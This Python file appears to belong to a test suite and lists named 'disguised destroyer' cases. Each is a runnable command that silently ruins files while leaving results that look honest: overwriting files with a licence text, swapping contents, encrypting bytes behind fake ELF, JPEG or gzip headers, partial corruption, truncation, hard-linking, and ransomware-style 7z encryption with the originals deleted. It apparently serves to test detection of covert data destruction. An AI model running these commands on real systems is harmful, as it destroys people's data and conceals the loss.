# SPDX-License-Identifier: Apache-2.0
"""Destroyers whose results look honest, file by file: a document that says nothing of what was there, contents of
other files, ciphertext behind the head of a known format, a part that is missing."""
from attack import EACH, FILES, Attack, Outcome

DOCUMENT = "/usr/share/common-licenses/GPL-3"


def python(each, before="pass"):
    """`before` once, then `each` for each path `p`; `files` are all of them in order."""
    lines = "\n    ".join(each.split("\n"))
    return f"""python3 - <<'PY'
import os, random
files = sorted(os.path.join(d, f) for d, _, fs in os.walk(".") for f in fs if not f.startswith("."))
files = [p for p in files if not os.path.islink(p)]
read = lambda p: open(p, "rb").read()
write = lambda p, content: open(p, "wb").write(content)
locked = lambda p: bytes(a ^ b for a, b in zip(read(p), os.urandom(os.path.getsize(p))))
{before}
for p in files:
    {lines}
PY"""


DISGUISED = {
    "S01-one-document": Attack(python("write(p, document)", f'document = read("{DOCUMENT}")')),
    "S01-one-document-cp": Attack(f"{FILES} -print0 | xargs -0 -n1 cp {DOCUMENT}"),
    "S01-exchanged": Attack(python("a, b = read(p), read(other[p])\nwrite(p, b)\nwrite(other[p], a)",
                                   "other = dict(zip(files[::2], files[1::2])); files = list(other)")),
    "S01-handed-on": Attack(python("write(p, content.pop())", "random.Random(3).shuffle(files); "
                                   "content = [read(p) for p in files[1:] + files[:1]][::-1]")),
    "S01-program-head": Attack(python(r'write(p, b"\x7fELF" + locked(p))')),
    "S02-picture-head": Attack(python('write(p + ".jpg", bytes.fromhex("ffd8ffe000104a46494600010100000100010000") '
                                      "+ locked(p))\nos.unlink(p)")),
    "S02-packer-head": Attack(python('write(p + ".gz", bytes.fromhex("1f8b0800000000000003") + locked(p))\nos.unlink(p)')),
    "S03-five-percent": Attack(python("n = os.path.getsize(p); k = max(16, n // 20)\nwith open(p, 'r+b') as file:\n"
                                      "    file.seek((n - k) // 2); file.write(os.urandom(k))")),
    "S09-tails": Attack(f"{FILES} -print0 | xargs -0 truncate -s -64"),
    "S09-all-open": Attack(f"{FILES} | head -n 300 | xargs -d '\\n' sh -c 'head -c 20000 /dev/urandom | "
                           'tee "$@" > /dev/null\' x'),
    "S10-links-to-one": Attack(python("if p != files[0]:\n    os.unlink(p); os.link(files[0], p)")),
    "S15-folders-out": Attack('mv ./* "$BESIDE/"', outcome=Outcome.TOLD),
    "S16-7z-each": Attack(f'{EACH} 7z a -psecret -mhe=on -bd -bso0 -bsp0 "$f.7z" "$f" && rm "$f"; done', ("7z",)),
    "S18-perl-rot13": Attack(f"{FILES} -print0 | xargs -0 perl -pi -e 'y/A-Za-z/N-ZA-Mn-za-m/'"),
}
